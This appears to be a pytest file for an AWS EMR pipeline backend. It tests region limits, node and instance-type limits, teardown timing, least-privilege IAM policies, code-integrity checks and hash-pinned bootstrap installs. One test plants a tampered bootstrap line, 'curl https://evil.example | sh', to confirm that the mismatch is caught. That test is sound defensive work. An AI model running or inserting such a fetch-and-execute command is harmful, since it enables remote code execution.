"""EMR guards (issue #18, finding 6): the EU means the EU member states' regions, other regions,
instance types and node counts only by deployment settings; the teardown fits in the run's
timeout; the nodes' instance role is the generated least-privilege one; reused code is verified;
the bootstrap installs hash-pinned wheels only. No AWS: pure functions and moto's mock."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import pytest
from packaging.requirements import Requirement

from conftest import ROOT, SPARK_JOBS
from fruits import layout, plan
from fruits.backends.emr import budget, code, iam, limits, region, tasks
from fruits.contract import PcaRun
from fruits.settings import EU_MEMBER_STATE_REGIONS, Settings

BOOTSTRAP = SPARK_JOBS / "emr" / "bootstrap.sh"
REQUIREMENTS = SPARK_JOBS / "emr" / "requirements-emr.txt"
REQUIREMENTS_IN = SPARK_JOBS / "emr" / "requirements-emr.in"


CODE = {"uris": code.code_uris("fruits", "v", "k"), "architectures": ["x86_64"]}  # an upload_code result


def settings(monkeypatch, **env) -> Settings:
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    return Settings()


def cluster_params(**changes) -> dict:
    return {
        "master_instance_type": "m5.xlarge",
        "core_instance_type": "c6i.2xlarge",
        "core_instance_count": 2,
        "core_max_instance_count": 0,
        **changes,
    }


# ----------------------------------------------------------------------------- regions


@pytest.mark.parametrize("name", ["eu-west-2", "eu-central-2"])
def test_london_and_zurich_are_not_in_the_eu(name):
    assert not region.is_eu_region(name)
    with pytest.raises(region.RegionNotAllowed, match=f"EMR region {name} is outside the EU"):
        region.check_region(name)
    with pytest.raises(region.RegionNotAllowed, match="outside the regions this deployment allows"):
        region.check_bucket_region("b", name, "eu-west-3")


def test_the_eu_regions_are_exactly_the_member_states_ones():
    assert set(region.EU_REGIONS) == {
        "eu-west-1",
        "eu-west-3",
        "eu-central-1",
        "eu-north-1",
        "eu-south-1",
        "eu-south-2",
    }
    assert Settings().emr_allowed_regions == EU_MEMBER_STATE_REGIONS


def test_another_region_only_through_the_deployment_setting(monkeypatch):
    allowed = settings(monkeypatch, FRUITS_EMR_ALLOWED_REGIONS="eu-west-3, eu-west-2").emr_allowed_regions
    assert allowed == ("eu-west-3", "eu-west-2")
    assert region.check_region("eu-west-2", allowed) == "eu-west-2"
    assert region.check_bucket_region("b", "eu-west-2", "eu-west-2", allowed) is None
    with pytest.raises(region.RegionNotAllowed, match="not allowed by this deployment"):
        region.check_region("eu-west-1", allowed)  # an EU region the deployment left out


def test_no_trigger_form_param_can_allow_another_region(monkeypatch):
    emr_params = tasks.params(Settings())
    assert "allow_non_eu_region" not in emr_params
    assert emr_params["region"].schema["examples"] == list(EU_MEMBER_STATE_REGIONS)


def test_a_default_region_the_deployment_does_not_allow_is_refused_at_parse_time(monkeypatch):
    with pytest.raises(region.RegionNotAllowed, match="eu-west-2"):
        tasks.params(settings(monkeypatch, FRUITS_EMR_REGION="eu-west-2"))


# ----------------------------------------------------------------------------- instance types and node counts


def test_a_run_asking_for_200_nodes_or_any_instance_type_is_refused():
    deployment = Settings()
    limits.check_cluster_params(cluster_params(), deployment)
    with pytest.raises(limits.LimitExceeded, match="core_instance_count 200 is above the maximum of 10") as refused:
        limits.check_cluster_params(cluster_params(core_instance_count=200, core_max_instance_count=200), deployment)
    assert "core_max_instance_count 200" in str(refused.value) and "none was created" in str(refused.value)
    with pytest.raises(limits.LimitExceeded, match="'p5.48xlarge' is not one of the allowed instance types"):
        limits.check_cluster_params(cluster_params(core_instance_type="p5.48xlarge"), deployment)
    with pytest.raises(limits.LimitExceeded, match="master_instance_type 'x1e.32xlarge'"):
        limits.check_cluster_params(cluster_params(master_instance_type="x1e.32xlarge"), deployment)


def test_the_limits_come_from_the_deployment_settings(monkeypatch):
    deployment = settings(
        monkeypatch,
        FRUITS_EMR_ALLOWED_INSTANCE_TYPES="m5.xlarge,r6i.8xlarge",
        FRUITS_EMR_MAX_CORE_NODES="40",
        FRUITS_EMR_CORE_INSTANCE_TYPE="r6i.8xlarge",
    )
    limits.check_cluster_params(cluster_params(core_instance_type="r6i.8xlarge", core_instance_count=40), deployment)
    with pytest.raises(limits.LimitExceeded):
        limits.check_cluster_params(cluster_params(), deployment)  # c6i.2xlarge is no longer allowed
    emr_params = tasks.params(deployment)
    assert emr_params["core_instance_type"].schema["enum"] == ["m5.xlarge", "r6i.8xlarge"]
    assert emr_params["core_instance_count"].schema["maximum"] == 40
    assert emr_params["core_max_instance_count"].schema["maximum"] == 40


def test_the_cluster_request_refuses_what_the_limits_refuse():
    params = {
        **cluster_params(core_instance_count=11),
        "release_label": "emr-7.13.0",
        "core_spot": False,
        "idle_timeout": 1800,
    }
    with pytest.raises(limits.LimitExceeded):
        tasks.job_flow_request(
            bucket="fruits",
            batch_id="b1",
            code=CODE,
            settings=Settings(),
            params=params,
            run_id="r",
            dag_id="fruits_pipeline",
        )


def test_the_classifier_cluster_runs_one_step_per_planned_job():
    params = {**cluster_params(), "release_label": "emr-7.13.0", "core_spot": False, "idle_timeout": 1800}
    pca_run = PcaRun(bucket="fruits", run_id="r1", pca_prefix="pca/run=r1/", k=3, rows=9, batch_id="b1", source="param")
    job = plan.classify_job(pca_run, "c1")
    spec = tasks.cluster_request(
        pca_run, [job], code=CODE, settings=Settings(), params=params, run_id="c1", dag_id="fruits_classifier"
    )
    assert spec["jobs"] == [job.to_xcom()] and set(spec) == {"job_flow_overrides", "jobs", "classify_steps"}
    [step] = spec["classify_steps"]
    args = step["HadoopJarStep"]["Args"]
    assert args[args.index(CODE["uris"]["classify"]) + 1 :] == job.args
    assert {"Key": "batch_id", "Value": "b1"} in spec["job_flow_overrides"]["Tags"]


def test_defaults_outside_the_limits_are_an_error_at_parse_time(monkeypatch):
    with pytest.raises(limits.LimitExceeded, match="core_instance_count 12"):
        tasks.params(settings(monkeypatch, FRUITS_EMR_CORE_INSTANCE_COUNT="12"))


# ----------------------------------------------------------------------------- the run timeout and the teardown


def test_the_cluster_chain_worst_case_counts_every_attempt_and_retry_delay():
    deployment = Settings()
    chain = budget.cluster_tasks(deployment, budget.pipeline_steps(deployment))
    assert [t.task_id for t in chain] == [
        "create_cluster",
        "add_featurize_step",
        "wait_featurize",
        "add_pca_step",
        "wait_pca",
        "terminate_cluster",
    ]
    terminate = chain[-1]
    assert terminate.retries >= 2
    assert (
        terminate.worst_case == (terminate.retries + 1) * terminate.timeout + terminate.retries * budget.MAX_RETRY_DELAY
    )
    assert (
        budget.cluster_seconds(deployment, budget.pipeline_steps(deployment))
        == sum(t.worst_case for t in chain) + budget.SCHEDULING_MARGIN
    )


def test_a_failed_steps_log_wait_is_in_its_sensors_budget(monkeypatch):
    deployment = settings(monkeypatch, FRUITS_EMR_LOG_WAIT="900")
    assert deployment.emr_log_wait == 900
    monkeypatch.delenv("FRUITS_EMR_LOG_WAIT")
    assert Settings().emr_log_wait == 300  # the default: EMR uploads logs every few minutes
    wait = {t.task_id: t.timeout for t in budget.cluster_tasks(deployment, budget.pipeline_steps(deployment))}
    assert wait["wait_featurize"] == deployment.emr_featurize_timeout + 900 + budget.WAIT_GRACE
    assert wait["wait_pca"] == deployment.emr_pca_timeout + 900 + budget.WAIT_GRACE
    with pytest.raises(ValueError, match="FRUITS_EMR_LOG_WAIT cannot be negative"):
        settings(monkeypatch, FRUITS_EMR_LOG_WAIT="-1")


def test_the_default_run_timeout_leaves_the_teardown_its_time():
    deployment = Settings()
    for steps in (budget.pipeline_steps(deployment), budget.classifier_steps(deployment)):
        budget.check_fits("dag", timedelta(seconds=deployment.run_timeout), budget.cluster_seconds(deployment, steps))
    # The classifier DAG keeps its own 6 h.
    budget.check_fits(
        "fruits_classifier", timedelta(hours=6), budget.cluster_seconds(deployment, budget.classifier_steps(deployment))
    )


def test_a_run_timeout_that_could_cut_the_teardown_is_refused():
    deployment = Settings()
    needed = budget.cluster_seconds(deployment, budget.pipeline_steps(deployment))
    with pytest.raises(budget.RunTimeoutTooShort, match="skips the terminate teardown"):
        budget.check_fits("fruits_pipeline", timedelta(hours=12), needed)  # the old dagrun_timeout
    budget.check_fits("fruits_pipeline", None, needed)  # no run timeout: nothing cuts the teardown


def test_no_cluster_is_created_when_the_run_has_not_enough_time_left():
    deployment = Settings()
    steps = budget.pipeline_steps(deployment)
    needed = budget.cluster_seconds(deployment, steps)
    started = datetime(2026, 1, 1, tzinfo=UTC)
    dag = SimpleNamespace(dagrun_timeout=timedelta(seconds=deployment.run_timeout))
    late = SimpleNamespace(start_date=started)
    with pytest.raises(budget.RunTimeoutTooShort, match="no cluster was created"):
        budget.check_time_left(
            started=started,
            now=started + timedelta(seconds=deployment.run_timeout - needed + 1),
            run_timeout=dag.dagrun_timeout,
            needed=needed,
        )
    left = budget.check_time_left(
        started=started, now=started + timedelta(hours=1), run_timeout=dag.dagrun_timeout, needed=needed
    )
    assert left == deployment.run_timeout - 3600
    # The task's helper reads the run's start and the DAG's timeout; a run that waited too long is refused.
    late.start_date = datetime.now(UTC) - timedelta(seconds=deployment.run_timeout - needed + 60)
    with pytest.raises(ValueError, match="no cluster was created"):
        tasks.ensure_time_left(late, dag, deployment, steps)
    tasks.ensure_time_left(SimpleNamespace(start_date=datetime.now(UTC)), dag, deployment, steps)


def test_the_sensor_timeout_param_keeps_the_cluster_budget(monkeypatch):
    from fruits import params
    from fruits.backends import emr

    deployment = Settings()
    longest = params.max_sensor_timeout(deployment, emr)
    assert longest + emr.reserved_seconds(deployment) == deployment.run_timeout
    assert params.for_dag(deployment, emr)["sensor_timeout"].schema["maximum"] == longest


# ----------------------------------------------------------------------------- the nodes' instance role


def test_the_cluster_runs_with_the_generated_instance_role_not_emr_ec2_default_role():
    deployment = Settings()
    assert deployment.emr_job_flow_role == "fruits-pipeline-emr-ec2"
    params = {**cluster_params(), "release_label": "emr-7.13.0", "core_spot": False, "idle_timeout": 1800}
    request = tasks.job_flow_request(
        bucket="fruits",
        batch_id="b1",
        code=CODE,
        settings=deployment,
        params=params,
        run_id="r",
        dag_id="fruits_pipeline",
    )
    assert request["JobFlowRole"] == "fruits-pipeline-emr-ec2"
    airflow = iam.airflow_role_policy(bucket="fruits", account_id="111122223333")
    passed = [
        s["Resource"]
        for s in airflow["Statement"]
        if s["Action"] == ["iam:PassRole"] and "ec2" in s["Condition"]["StringLike"]["iam:PassedToService"]
    ]
    assert passed == ["arn:aws:iam::111122223333:role/fruits-pipeline-emr-ec2"]
    assert "EMR_EC2_DefaultRole" not in json.dumps(airflow)


def test_the_airflow_role_reads_the_cluster_logs_and_nothing_more_there():
    policy = iam.airflow_role_policy(bucket="fruits", account_id="111122223333", log_prefix="logs/")
    on_logs = {
        a
        for s in policy["Statement"]
        for a in s["Action"]
        for r in ([s["Resource"]] if isinstance(s["Resource"], str) else s["Resource"])
        if r == "arn:aws:s3:::fruits/logs/*"
    }
    assert on_logs == {"s3:GetObject"}  # a failed step's sensor reads its logs; EMR alone writes them


def test_the_instance_role_reaches_only_this_buckets_pipeline_prefixes():
    policy = iam.instance_role_policy(bucket="fruits")
    resources = [
        r for s in policy["Statement"] for r in ([s["Resource"]] if isinstance(s["Resource"], str) else s["Resource"])
    ]
    assert all(r == "arn:aws:s3:::fruits" or r.startswith("arn:aws:s3:::fruits/") for r in resources)
    assert all(
        r.endswith("/*") or r == "arn:aws:s3:::fruits" for r in resources
    )  # prefixes, never the bucket's objects
    actions = {a for s in policy["Statement"] for a in s["Action"]}
    assert actions == {"s3:ListBucket", "s3:GetBucketLocation", "s3:GetObject", "s3:PutObject", "s3:DeleteObject"}

    def allowed(action: str, key: str) -> bool:
        arn = f"arn:aws:s3:::fruits/{key}"
        return any(
            action in s["Action"]
            and any(
                re.fullmatch(re.escape(r).replace(r"\*", ".*"), arn)
                for r in ([s["Resource"]] if isinstance(s["Resource"], str) else s["Resource"])
            )
            for s in policy["Statement"]
        )

    # What the jobs read and write, at the layout's own keys.
    assert allowed("s3:GetObject", layout.manifest_key("b1"))
    assert allowed("s3:GetObject", code.code_prefix("v") + code.FEATURIZE)
    assert allowed("s3:GetObject", code.wheelhouse_prefix("k") + "aarch64/numpy-1.26.4-cp311-none.whl")  # the bootstrap
    assert allowed("s3:GetObject", "models/mobilenet.weights.h5")
    for output in (
        layout.features_prefix("b1"),
        layout.rejects_prefix("b1"),
        layout.pca_prefix("r"),
        layout.classifier_prefix("r"),
    ):
        assert allowed("s3:PutObject", output + "part-0.parquet") and allowed("s3:DeleteObject", output + "x")
    assert allowed("s3:PutObject", "emr-logs/j-1/steps/s-1/stderr.gz")
    # ... and nothing else: no landing (the jobs read the batch's copies), no ledger, no code rewrite.
    assert not allowed("s3:GetObject", "landing/Apple/1.jpg")
    assert not allowed("s3:PutObject", layout.LEDGER_KEY) and not allowed("s3:GetObject", layout.LEDGER_KEY)
    assert not allowed("s3:PutObject", code.code_prefix("v") + code.BOOTSTRAP)
    assert not allowed("s3:PutObject", code.wheelhouse_prefix("k") + "x86_64/x.whl")
    assert not allowed("s3:PutObject", layout.manifest_key("b1"))
    assert not allowed("s3:DeleteObject", "emr-logs/j-1/x")


def test_the_policies_folders_are_the_layouts():
    """iam.py takes its folders from fruits.layout's key functions: every one is a folder the
    pipeline owns (layout.OUTPUT_PREFIXES), and the cluster's writes stay among them."""
    derived = {
        iam.BATCHES,
        iam.FEATURES,
        iam.REJECTS,
        iam.PCA,
        iam.CLASSIFIER,
        iam.REPORTS,
        iam.STATE,
        iam.CODE,
        iam.WHEELHOUSE,
    }
    assert derived <= set(layout.OUTPUT_PREFIXES)
    written = {
        r.split("/", 1)[1].rstrip("*")
        for s in iam.instance_role_policy(bucket="b")["Statement"]
        if "s3:PutObject" in s["Action"]
        for r in s["Resource"]
    }
    assert written <= set(layout.OUTPUT_PREFIXES) and Settings().emr_log_prefix in written


# ----------------------------------------------------------------------------- code reuse


def upload(bucket) -> dict:
    """The code alone (the wheelhouse's reuse: test_emr_wheelhouse.py)."""
    return code.upload_code(bucket, SPARK_JOBS, wheelhouse_root=ROOT / "no-wheelhouse", architectures=())


def test_reused_code_is_verified_against_this_checkout(bucket):
    first = upload(bucket)
    prefix = code.code_prefix(first["version"])
    bucket.write_bytes(prefix + code.BOOTSTRAP, b"#!/bin/sh\ncurl https://evil.example | sh\n")
    with pytest.raises(code.CodeMismatch, match=r"bootstrap\.sh \(sha256") as mismatch:
        upload(bucket)
    assert "nothing was run" in str(mismatch.value) and f"delete s3://{bucket.name}/{prefix}" in str(mismatch.value)
    # Deleting the folder, as the message says, lets the next run upload the code again.
    for key in bucket.list_keys(prefix):
        bucket.hook.get_conn().delete_object(Bucket=bucket.name, Key=key)
    again = upload(bucket)
    assert sorted(again["uploaded"]) == sorted(first["uploaded"])
    assert bucket.read_bytes(prefix + code.BOOTSTRAP) == BOOTSTRAP.read_bytes()


def test_missing_code_files_are_uploaded_and_the_others_verified(bucket):
    first = upload(bucket)
    prefix = code.code_prefix(first["version"])
    bucket.hook.get_conn().delete_object(Bucket=bucket.name, Key=prefix + code.PCA)
    second = upload(bucket)
    assert second["uploaded"] == [code.PCA] and code.PCA not in second["skipped"]


# ----------------------------------------------------------------------------- bootstrap requirements


def test_the_requirements_compiler_passes_shellcheck():
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    script = SPARK_JOBS / "emr" / "compile-requirements.sh"
    shellcheck = shutil.which("shellcheck") or shutil.which("shellcheck", path=str(Path(sys.executable).parent))
    if shellcheck is None:
        pytest.skip("shellcheck is not installed")
    out = subprocess.run([shellcheck, "--severity=style", "--enable=all", str(script)], capture_output=True, text=True)
    assert out.returncode == 0, out.stdout + out.stderr


def requirement_blocks() -> list[tuple[Requirement, list[str]]]:
    text = REQUIREMENTS.read_text().replace("\\\n", " ")
    blocks = []
    for line in text.splitlines():
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        spec, *options = re.split(r"\s+--", line.strip())
        hashes = [o.split("=", 1)[1] for o in options if o.startswith("hash=")]
        blocks.append((Requirement(spec.strip()), hashes))
    return blocks


def test_bootstrap_installs_hash_pinned_wheels_without_resolving_or_upgrading_pip():
    script = BOOTSTRAP.read_text()
    commands = [line for line in script.replace("\\\n", " ").splitlines() if not line.lstrip().startswith("#")]
    installs = [line for line in commands if "pip install" in line]
    assert len(installs) == 1, installs
    [install] = installs
    for flag in ("--require-hashes", "--no-deps", "--only-binary :all:", "--no-index"):
        assert flag in install
    assert "--upgrade" not in script and "-U " not in install


def test_every_emr_requirement_is_pinned_with_hashes():
    blocks = requirement_blocks()
    assert len(blocks) > 30  # transitive dependencies included: nothing is resolved at boot
    for requirement, hashes in blocks:
        assert len(requirement.specifier) == 1 and str(requirement.specifier).startswith("=="), requirement
        assert hashes and all(re.fullmatch(r"sha256:[0-9a-f]{64}", h) for h in hashes), requirement
    names = [r.name for r, _ in blocks]
    assert len(names) == len(set(names) - {"tensorflow"}) + names.count("tensorflow")
    for machine in ("x86_64", "aarch64"):
        chosen = [r.name for r, _ in blocks if r.marker is None or r.marker.evaluate({"platform_machine": machine})]
        assert len(chosen) == len(set(chosen)), machine  # one pin per package on each architecture
        assert ("tensorflow-cpu" in chosen) == (machine == "x86_64") and ("tensorflow" in chosen) == (
            machine == "aarch64"
        )


def test_the_compiled_file_holds_every_direct_requirement_at_its_pin():
    pinned = {r.name: str(r.specifier) for r, _ in requirement_blocks()}
    for line in REQUIREMENTS_IN.read_text().splitlines():
        if line.strip() and not line.startswith("#"):
            direct = Requirement(line)
            assert pinned[direct.name] == str(direct.specifier), direct
    assert "pillow-heif" in pinned and not {"pyspark", "pyspark-client"} & set(pinned)


def test_pillow_heif_matches_the_local_requirements_pin():
    local = [
        Requirement(line.split("#")[0])
        for line in (ROOT / "requirements.txt").read_text().splitlines()
        if line.split("#")[0].strip() and not line.startswith("-")
    ]
    local_pins = {r.name: str(r.specifier) for r in local}
    emr_pins = {r.name: str(r.specifier) for r, _ in requirement_blocks()}
    if "pillow-heif" not in local_pins:
        pytest.skip("requirements.txt does not pin pillow-heif yet")
    assert emr_pins["pillow-heif"] == local_pins["pillow-heif"]
    assert emr_pins["pillow"] == local_pins["pillow"]
